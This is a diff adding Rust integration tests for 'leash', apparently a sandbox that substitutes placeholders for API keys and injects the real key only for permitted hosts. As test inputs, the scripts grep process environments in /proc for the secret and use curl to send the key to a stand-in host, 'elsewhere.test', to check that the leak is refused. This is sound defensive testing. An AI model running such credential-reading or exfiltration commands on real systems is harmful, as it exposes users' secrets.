@@ -1,0 +1,117 @@
+//! Secrets stay outside the sandbox, with real programs: `leash run` gives the command a placeholder in place of
+//! `ANTHROPIC_API_KEY`; curl and Python reach a fake provider over HTTPS (test CA) that answers 401 unless the real
+//! key arrives, and the key it quotes back arrives as the placeholder. Inside, neither the environment (the
+//! command's or init's), the policy file nor anything leash prints holds the real value, and the placeholder sent
+//! to another host is refused. `leash check` refuses a policy whose secret is missing.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test's helpers fail it by panicking")]
+
+mod common;
+
+use std::process::Command;
+
+use common::{https_material, log_lines, sandbox_available, stderr, stdout, FakeProvider};
+
+const LEASH: &str = env!("CARGO_BIN_EXE_leash");
+const SECRET: &str = "sk-ant-real-7f3a9c2e1b5d4f6a8091a2b3c4d5e6f7";
+
+fn policy(dir: &std::path::Path, port: u16) -> std::path::PathBuf {
+    let path = dir.join("policy.yaml");
+    let text = format!(
+        "network:\n  mode: blocklist\n  blocked_urls: []\n  ports: [80, {port}]\n  tunnel_ports: [{port}]\n  \
+         allow_destinations: [127.0.0.0/8]\n  credentials:\n    - preset: anthropic\n      hosts: [docs.test]\n"
+    );
+    std::fs::write(&path, text).unwrap();
+    path
+}
+
+#[test]
+fn the_command_holds_a_placeholder_and_its_requests_carry_the_real_key() {
+    if !sandbox_available() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let ca = https_material(dir.path());
+    let seen = dir.path().join("seen");
+    let provider = FakeProvider::start(dir.path(), SECRET, &seen);
+    let port = provider.port;
+    let policy = policy(dir.path(), port);
+    let log = dir.path().join("audit.jsonl");
+    let script = format!(
+        r#"echo "env=$ANTHROPIC_API_KEY"
+curl -s -H "x-api-key: $ANTHROPIC_API_KEY" https://docs.test:{port}/v1/messages; echo
+python3 -c 'import os, urllib.request as u
+r = u.Request("https://docs.test:{port}/v1/models", headers={{"x-api-key": os.environ["ANTHROPIC_API_KEY"]}})
+print(u.urlopen(r).read().decode())'
+grep -c "{SECRET}" /proc/self/environ; cat /proc/1/environ 2>/dev/null | grep -c "{SECRET}"
+grep -c credentials {policy}; true
+"#,
+        policy = policy.display()
+    );
+    let o = Command::new(LEASH)
+        .args(["run", "--policy", policy.to_str().unwrap(), "--log", log.to_str().unwrap()])
+        .args(["--upstream-ca", ca.to_str().unwrap(), "--resolve", "docs.test:127.0.0.1", "--", "sh", "-c", &script])
+        .env("ANTHROPIC_API_KEY", SECRET)
+        .output()
+        .unwrap();
+    let (out, err) = (stdout(&o), stderr(&o));
+    assert_eq!(o.status.code(), Some(0), "{out}\n{err}");
+    let lines: Vec<&str> = out.lines().collect();
+    let placeholder = lines[0].strip_prefix("env=").unwrap();
+    assert!(placeholder.starts_with("leash-anthropic-") && placeholder.len() == SECRET.len(), "{placeholder}");
+    assert_eq!(lines[1], format!("your key: {placeholder}"), "curl got through; the quoted key is the placeholder");
+    assert_eq!(lines[2], format!("your key: {placeholder}"), "python got through too");
+    assert_eq!(lines[3], "0", "the command's environment has no real key");
+    assert_eq!(lines[4], "0", "init's environment is not readable, or has no real key");
+    assert_eq!(lines[5], "0", "the policy file is hidden inside: {out}");
+    assert_eq!(std::fs::read_to_string(&seen).unwrap(), format!("{SECRET}\n{SECRET}\n"), "the provider got the key");
+    assert!(!out.contains(SECRET) && !err.contains(SECRET), "nothing leash or the command printed holds the key");
+    let text = std::fs::read_to_string(&log).unwrap();
+    assert!(!text.contains(SECRET), "the audit log never holds the key");
+    let with_credential = log_lines(&log).iter().filter(|l| l["credential"] == "anthropic").count();
+    assert_eq!(with_credential, 2, "{text}");
+}
+
+#[test]
+fn the_placeholder_sent_to_another_host_is_refused() {
+    if !sandbox_available() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let origin_port = common::origin();
+    let policy = policy(dir.path(), origin_port);
+    let log = dir.path().join("audit.jsonl");
+    let script = format!(
+        "curl -s -o /dev/null -w '%{{http_code}}' \"http://elsewhere.test:{origin_port}/?k=$ANTHROPIC_API_KEY\""
+    );
+    let o = Command::new(LEASH)
+        .args(["run", "--policy", policy.to_str().unwrap(), "--log", log.to_str().unwrap()])
+        .args(["--resolve", "elsewhere.test:127.0.0.1", "--", "sh", "-c", &script])
+        .env("ANTHROPIC_API_KEY", SECRET)
+        .output()
+        .unwrap();
+    assert_eq!(stdout(&o), "403", "{}", stderr(&o));
+    assert!(stderr(&o).contains("credential `anthropic` found in a request to elsewhere.test"), "{}", stderr(&o));
+    let reasons: Vec<String> = log_lines(&log).iter().filter_map(|l| l["reason"].as_str().map(str::to_owned)).collect();
+    assert!(reasons.contains(&"credential-leak".to_owned()), "{reasons:?}");
+}
+
+#[test]
+fn a_missing_secret_stops_leash_before_anything_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let policy = policy(dir.path(), 443);
+    let marker = dir.path().join("ran");
+    let o = Command::new(LEASH)
+        .args(["run", "--policy", policy.to_str().unwrap(), "--", "touch", marker.to_str().unwrap()])
+        .env_remove("ANTHROPIC_API_KEY")
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+    assert!(stderr(&o).contains("credential `anthropic`: `ANTHROPIC_API_KEY` is not set"), "{}", stderr(&o));
+    assert!(!marker.exists(), "the command ran");
+    let check =
+        Command::new(LEASH).args(["check", policy.to_str().unwrap()]).env_remove("ANTHROPIC_API_KEY").output().unwrap();
+    assert_eq!(check.status.code(), Some(1), "{}", stderr(&check));
+    let empty =
+        Command::new(LEASH).args(["check", policy.to_str().unwrap()]).env("ANTHROPIC_API_KEY", "").output().unwrap();
+    assert!(stderr(&empty).contains("its secret (`ANTHROPIC_API_KEY`) is empty"), "{}", stderr(&empty));
+}
